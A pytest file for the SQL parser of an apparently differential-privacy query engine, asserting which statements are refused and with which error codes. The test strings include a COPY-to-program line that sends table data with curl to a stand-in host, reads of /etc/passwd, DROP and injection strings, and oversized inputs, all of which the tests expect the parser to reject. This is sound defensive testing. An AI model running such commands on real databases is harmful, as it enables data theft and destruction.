"""Which texts are queries, which are refused, and with which code."""

from __future__ import annotations

import pytest
from sqlglot import exp

from shoal.errors import ShoalError
from shoal.sql.parse import parse, source_text

DP = "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS(epsilon=1, delta=1e-6, max_groups_contributed=3)"


def code_of(sql: str) -> str:
    with pytest.raises(ShoalError) as caught:
        parse(sql)
    assert caught.value.sql == sql
    assert "sqlglot" not in str(caught.value)
    return caught.value.code


STATEMENTS = [
    "COPY customers TO PROGRAM 'curl -d @- http://evil'",
    "INSTALL httpfs",
    "LOAD httpfs",
    "ATTACH 'x.db' AS x",
    "CREATE TABLE stolen AS SELECT * FROM customers",
    "CREATE MACRO sum(x) AS 0",
    "INSERT INTO customers VALUES (1)",
    "UPDATE customers SET uid = 1",
    "DELETE FROM customers",
    "MERGE INTO customers USING x ON true WHEN MATCHED THEN DELETE",
    "DROP TABLE customers",
    "SET search_path = evil, public",
    "RESET ALL",
    "BEGIN",
    "COMMIT",
    "CALL pragma_version()",
    "DECLARE c CURSOR FOR SELECT * FROM customers",
    "LISTEN x",
    "NOTIFY x",
    "DO $$ BEGIN END $$",
    "PREPARE q AS SELECT 1",
    "EXECUTE q",
    "PRAGMA database_list",
    "DESCRIBE customers",
    "SHOW TABLES",
    "SUMMARIZE customers",
    "USE other",
    "VACUUM",
    "GRANT ALL ON customers TO PUBLIC",
    "FETCH ALL FROM c",
    "PIVOT customers ON region",
    "frobnicate 'a\\'",
    f"EXPLAIN {DP} COUNT(*) FROM customers",
    f"EXPLAIN ANALYZE {DP} COUNT(*) FROM customers WHERE uid = 7",
    "EXPLAIN (ANALYZE) SELECT 1",
    "WITH d AS (DELETE FROM customers RETURNING *) SELECT COUNT(*) FROM d",
    "WITH d AS (INSERT INTO customers VALUES (1) RETURNING *) SELECT COUNT(*) FROM d",
    "WITH d AS (SELECT 1) DELETE FROM customers",
    "SELECT * FROM (DESCRIBE customers)",
    "SELECT * FROM (SHOW TABLES)",
    "SELECT * INTO stolen FROM customers",
    "SELECT region INTO stolen FROM customers",
    "-- innocent\n/* really */ DROP TABLE customers",
]


@pytest.mark.parametrize("sql", STATEMENTS)
def test_whatever_is_no_query_is_refused_as_a_statement(sql):
    assert code_of(sql) == "E_STATEMENT"


@pytest.mark.parametrize(
    "sql",
    [
        f"{DP} COUNT(*) FROM customers; SELECT * FROM customers",
        "SELECT 1; DROP TABLE customers",
        "SELECT broken FROM; SELECT 2",
        "SELECT 1;;SELECT 2",
    ],
)
def test_a_second_statement_is_refused(sql):
    assert code_of(sql) == "E_MULTI_STATEMENT"


@pytest.mark.parametrize("sql", ["SELECT 1;", "SELECT 1 ; ", "SELECT 1;;", "SELECT 1; -- done", "\n\tSELECT 1"])
def test_a_trailing_semicolon_is_fine(sql):
    assert isinstance(parse(sql).tree, exp.Select)


MALFORMED = {
    "empty": "",
    "only a semicolon": ";",
    "only a comment": "-- SELECT 1",
    "backslash": "SELECT COUNT(*) FROM customers WHERE region = 'a\\' OR uid = 7 --'",
    "backslash in a name": 'SELECT "a\\b" FROM t',
    "NUL": "SELECT 'é\0x'",
    "invisible character": "SELECT '\u202eabc'",
    "lone surrogate": "SELECT '\ud800'",
    "nested comment": "SELECT 1 /* nested /* comment */ ' */ OR 1=1",
    "comment never closed": "SELECT 1 /* and on",
    "comment never opened": "SELECT 1 */ 2",
    "optimizer hint": "SELECT /*+ full(t) */ 1",
    "executable comment": "SELECT 1 /*! UNION SELECT 2 */",
    "string never closed": "SELECT 'abc",
    "name never closed": 'SELECT "abc',
    "empty name": 'SELECT "" FROM t',
    "dollar quotes": "SELECT $$a$$",
    "tagged dollar quotes": "SELECT $x$a$x$",
    "numbered parameter": "SELECT $1",
    "question mark": "SELECT ?",
    "named parameter": "SELECT :uid",
    "at parameter": "SELECT @uid",
    "escape string": "SELECT E'a'",
    "unicode string": "SELECT U&'a'",
    "unicode name": 'SELECT U&"a"',
    "national string": "SELECT N'a'",
    "hex string": "SELECT X'1F'",
    "bit string": "SELECT B'1'",
    "raw string": "SELECT r'a'",
    "hash comment": "SELECT 1 # 2",
    "jinja comment": "SELECT {# 1 #} 2",
    "letters beyond ASCII": "SELECT größe FROM t",
    "a keyword with a long s": "SELECT a FROM t WHERE a \u0131s NULL",
    "no-break space": "SELECT\u00a01",
    "spaceship": "SELECT a <=> b FROM t",
    "exclamation": "SELECT !a FROM t",
    "number into word": "SELECT 1a",
    "underscored number": "SELECT 1_000",
    "hexadecimal number": "SELECT 0x1F",
    "two strings": "SELECT 'a' 'b'",
    "FROM twice": "FROM customers SELECT COUNT(*) FROM customers",
    "pipe": "FROM customers |> WHERE age > 3 |> AGGREGATE COUNT(*)",
    "pipe behind": "SELECT a FROM customers |> WHERE age > 3",
    "no columns": "SELECT FROM t",
    "no list": "SELECT",
    "dangling comma": "SELECT a, b,",
    "dangling operator": "SELECT a + FROM t",
    "dangling where": "SELECT a FROM t WHERE",
    "wrong order": "SELECT a FROM t GROUP BY a WHERE b",
    "two wheres": "SELECT a FROM t WHERE a WHERE b",
    "open parenthesis": "SELECT (1",
    "closed parenthesis": "SELECT 1)",
    "chained comparison": "SELECT a < b < c",
    "chained equality": "SELECT a = b = c",
    "unknown clause": "SELECT WITH PRIVACY a FROM t",
    "option without value": "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS(epsilon) a FROM t",
    "string alias": "SELECT a AS 'b' FROM t",
    "keyword alias": "SELECT a FROM t WHERE CASE = 1",
    "join without condition": "SELECT a FROM t JOIN u",
    "natural cross": "SELECT a FROM t NATURAL CROSS JOIN u",
    "double limit": "SELECT a FROM t LIMIT 1 LIMIT 2",
    "comma limit": "SELECT a FROM t LIMIT 1, 2",
    "named before positional": "SELECT SUM(epsilon => 1, x) FROM t",
    "star in the second place": "SELECT COUNT(a, *) FROM t",
    "walrus argument": "SELECT SUM(x, epsilon := 1) FROM t",
    "interval without unit": "SELECT INTERVAL '5'",
    "interval of words": "SELECT INTERVAL 'five days'",
    "unequal rows": "SELECT * FROM (VALUES (1), (2, 3)) AS v(a)",
    "unknown window": "SELECT SUM(a) OVER w FROM t",
    "subquery without parentheses": "SELECT a FROM t WHERE a = SELECT 1",
}


@pytest.mark.parametrize("name", MALFORMED)
def test_what_is_no_sentence_of_the_grammar_is_a_parse_error(name):
    assert code_of(MALFORMED[name]) == "E_PARSE"


UNSUPPORTED = [
    f"{DP} DISTINCT region, COUNT(*) FROM customers GROUP BY region",
    "SELECT DISTINCT WITH DIFFERENTIAL_PRIVACY region FROM customers",
    "SELECT WITH AGGREGATION_THRESHOLD OPTIONS(threshold=5) COUNT(*) FROM customers",
    f"{DP} COUNT(*) FROM customers TABLESAMPLE reservoir(10 ROWS) REPEATABLE (42)",
    f"{DP} COUNT(*) FROM customers c TABLESAMPLE BERNOULLI (10)",
    f"{DP} COUNT(*) FROM customers USING SAMPLE 10",
    "SELECT * EXCLUDE (uid) FROM t",
    "SELECT * EXCEPT (uid) FROM t",
    "SELECT t.* REPLACE (1 AS uid) FROM t",
    "SELECT AS STRUCT a FROM t",
    "SELECT * FROM t PIVOT (SUM(a) FOR b IN (1, 2))",
    "SELECT * FROM t AS u UNPIVOT (a FOR b IN (c, d))",
    "SELECT * FROM t FOR SYSTEM_TIME AS OF x",
    "SELECT * FROM t AT (VERSION => 3)",
    "SELECT * FROM t VERSION AS OF 3",
    "SELECT a FROM t FOR UPDATE",
    "SELECT * FROM t ORDER BY ALL",
    "SELECT a FROM t LIMIT ALL",
    "SELECT a FROM t LIMIT 10 PERCENT",
    "SELECT a FROM t FETCH FIRST 3 ROWS WITH TIES",
    "SELECT a FROM t UNION ALL BY NAME SELECT a FROM u",
    "SELECT a ^ b FROM t",
    "SELECT a & b FROM t",
    "SELECT a | b FROM t",
    "SELECT ~a FROM t",
    "SELECT a SIMILAR TO 'x' FROM t",
    "SELECT a GLOB 'x' FROM t",
    "SELECT a COLLATE nocase FROM t",
    "SELECT a -> 'b' FROM t",
    "SELECT {'a': 1}",
    "SELECT a[1:2] FROM t",
    "SELECT (a).b FROM t",
    "SELECT upper(a).lower() FROM t",
    "SELECT CAST(a AS STRUCT<b INT64>) FROM t",
    "SELECT CAST(a AS INTEGER[]) FROM t",
    "SELECT a::regclass FROM t",
    "SELECT STRUCT(a AS b) FROM t",
    "SELECT ANY_VALUE(a HAVING MAX b) FROM t",
    "SELECT a IN b FROM t",
    "SELECT SUM(a) OVER (w ORDER BY b) FROM t WINDOW w AS (PARTITION BY c)",
    "SELECT SUM(a) OVER (ROWS BETWEEN 1 PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM t",
    "SELECT SUM(a) OVER v FROM t WINDOW w AS (PARTITION BY b), v AS (ORDER BY SUM(a) OVER w)",
    "SELECT a FROM t, u RIGHT JOIN v ON u.a = v.a",
    "SELECT a FROM (t JOIN u ON t.a = u.a) AS j",
]


@pytest.mark.parametrize("sql", UNSUPPORTED)
def test_known_syntax_outside_the_language_says_that_it_is_unsupported(sql):
    assert code_of(sql) == "E_UNSUPPORTED"


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        (f"{DP} COUNT(*) FROM 'customers.parquet'", "E_UNKNOWN_TABLE"),
        ("SELECT a FROM a.b.c.d", "E_UNKNOWN_TABLE"),
        ("SELECT * FROM main.read_csv('/etc/passwd')", "E_TABLE_FUNCTION"),
        ("SELECT * FROM UNNEST([1, 2]) WITH OFFSET AS o", "E_TABLE_FUNCTION"),
        ("SELECT * FROM range(3) OVER ()", "E_TABLE_FUNCTION"),
        ("SELECT * FROM WHERE (a)", "E_PARSE"),
        ("SELECT a FROM t GROUP BY a WITH TOTALS", "E_GROUPING"),
        ('SELECT "sum"(a) FROM t', "E_FUNCTION_NOT_ALLOWED"),
    ],
)
def test_some_verdicts_need_no_catalog(sql, code):
    assert code_of(sql) == code


@pytest.mark.parametrize(
    "sql",
    [
        f"{DP} COUNT(*) FROM customers -- ; DROP",
        "SELECT /* WITH DIFFERENTIAL_PRIVACY OPTIONS(epsilon=1, delta=1e-6) */ COUNT(*) FROM customers",
        f"{DP} COUNT(*) FROM csv.`/etc/passwd`",
        f"{DP} COUNT(*) FROM read_csv('/etc/passwd')",
        f"{DP} max(COLUMNS(*)) FROM customers",
        f"{DP} COUNT(*) FROM customers WHERE {'(' * 31}1=1{')' * 31}",
        "SELECT list_transform([1, 2], x -> x + 1)",
        "WITH RECURSIVE r(uid, n) AS (SELECT uid, 1 FROM c UNION ALL SELECT uid, n + 1 FROM r) SELECT COUNT(*) FROM r",
        "SELECT a FROM t WHERE income >= ALL (SELECT income FROM t)",
        "SELECT DISTINCT ON (a) a, b FROM t",
        "SELECT a FROM t GROUP BY ALL",
    ],
)
def test_what_the_binder_must_judge_reaches_it(sql):
    assert isinstance(parse(sql).tree, exp.Query)


def test_table_is_a_select_of_everything():
    assert parse("TABLE customers").tree == exp.Select(
        expressions=[exp.Star()], from_=exp.From(this=exp.Table(this=exp.Identifier(this="customers", quoted=False)))
    )


def test_a_comment_is_not_the_privacy_clause():
    assert "hint" not in parse("SELECT /* WITH DIFFERENTIAL_PRIVACY */ COUNT(*) FROM customers").tree.args


def test_explain_privacy_is_told_apart():
    statement = parse("explain privacy SELECT 1")
    assert statement.explain
    assert isinstance(statement.tree, exp.Select)
    assert not parse("SELECT 1").explain


def test_an_error_points_at_the_place():
    with pytest.raises(ShoalError) as caught:
        parse("SELECT a\nFROM t\n  WHERE a ^ 2")
    assert caught.value.position == (3, 11)
    assert str(caught.value).splitlines()[1:3] == ["  line 3:   WHERE a ^ 2", "                    ^"]
    assert caught.value.hint == "Use POWER(x, y)."


@pytest.mark.parametrize(
    ("sql", "hint"),
    [
        ("SELECT a FROM t WERE a > 1", "Did you mean WHERE?"),
        ("SELECT a FROM t GRUOP BY a", "Did you mean GROUP?"),
        ("SELECT order FROM t", 'Put a column of that name in double quotes: "order".'),
        ("SELECT a FROM order", 'Put the name in double quotes: "…".'),
        ("SELECT a FROM t WHERE a = 1 |> LIMIT 3", "Write SELECT … FROM … WHERE … GROUP BY …."),
        ("DELETE FROM t", "A query begins with SELECT or WITH."),
    ],
)
def test_a_refusal_says_what_to_write_instead(sql, hint):
    with pytest.raises(ShoalError) as caught:
        parse(sql)
    assert caught.value.hint == hint


def test_a_message_repeats_no_string_and_no_name():
    for sql in ("SELECT 'secret' 'b'", "SELECT a FROM t WHERE a = 'secret' 1", 'SELECT a AS x "secret" FROM t'):
        with pytest.raises(ShoalError) as caught:
            parse(sql)
        assert "secret" not in caught.value.message


def test_what_is_no_string_is_a_wrong_call():
    with pytest.raises(ShoalError) as caught:
        parse(b"SELECT 1")  # type: ignore[arg-type]
    assert caught.value.code == "E_USAGE"


def test_every_node_knows_its_text():
    sql = "SELECT COUNT( * ) , a+1 AS b FROM t"
    select = parse(sql).tree
    assert [source_text(item, sql) for item in select.expressions] == ["COUNT( * )", "a+1 AS b"]


DEEP = {
    "parentheses": f"SELECT {'(' * 10_000}1{')' * 10_000}",
    "brackets": f"SELECT {'[' * 10_000}1{']' * 10_000}",
    "NOT": f"SELECT {'NOT ' * 10_000} a FROM t",
    "minus": f"SELECT {'- ' * 10_000} 1",
    "CASE": f"SELECT {'CASE WHEN a THEN ' * 2_000} 1 {'END ' * 2_000}",
    "calls": f"SELECT {'f(' * 5_000}1{')' * 5_000}",
    "subqueries": f"{'SELECT * FROM (' * 3_000}SELECT 1{')' * 3_000}",
    "CTEs": f"{'WITH a AS (' * 3_000}SELECT 1{') SELECT * FROM a' * 500}",
    "set operations": f"SELECT 1{' UNION ALL SELECT 1' * 3_000}",
    "sums": f"SELECT 1{' + 1' * 9_000}",
    "casts": f"SELECT 1{'::INT' * 9_000}",
    "conjunctions": f"SELECT 1 WHERE a = 1{' OR a = 1' * 100_000}",
    "columns": f"SELECT {'a, ' * 100_000} a FROM t",
    "short columns": f"SELECT {'a,' * 30_000}a FROM t",
    "text": f"SELECT '{'x' * 10_000_000}'",
    "bytes, not characters": f"SELECT '{'é' * 40_000}'",
    "a number": f"SELECT {'9' * 5_000}",
    "spaces": " " * 10_000_000,
    "comments": "/*" * 5_000_000,
    "joins": f"SELECT 1 FROM {'(' * 3_000}t",
    "named windows": f"SELECT {'f() OVER w, ' * 2_000} 1 WINDOW w AS (PARTITION BY {'a, ' * 4_000} a)",
    "case and parentheses": f"SELECT {'CASE WHEN (' * 500} 1",
}


@pytest.mark.parametrize("name", DEEP)
def test_depth_and_size_are_refused_within_a_second(name, quickest):
    assert code_of(DEEP[name]) == "E_LIMITS"
    assert quickest(lambda: code_of(DEEP[name]), below=1) < 1


@pytest.mark.parametrize("link", [" + 1", "::INT", " IS NULL", "[1]", " AT TIME ZONE 'UTC'", " UNION SELECT 1"])
def test_a_chain_is_refused_where_it_grows_too_long(link):
    assert code_of(f"SELECT 1{link * 119})") == "E_PARSE"
    assert code_of(f"SELECT 1{link * 121})") == "E_LIMITS"


def test_a_thousand_disjunctions_are_no_deep_tree():
    tree = parse(f"SELECT 1 FROM t WHERE a = 0{' OR a = 1' * 2_000}").tree
    assert max(len(list(_ancestors(leaf))) for leaf in tree.find_all(exp.Literal)) < 20


def _ancestors(node):
    while node.parent:
        node = node.parent
        yield node


def test_the_depth_of_the_caller_changes_no_verdict():
    sql = f"{DP} COUNT(*) FROM customers WHERE {'(' * 40}1=1{')' * 40}"

    def descend(levels: int):
        return parse(sql) if levels == 0 else descend(levels - 1)

    assert parse(sql).tree == descend(600).tree
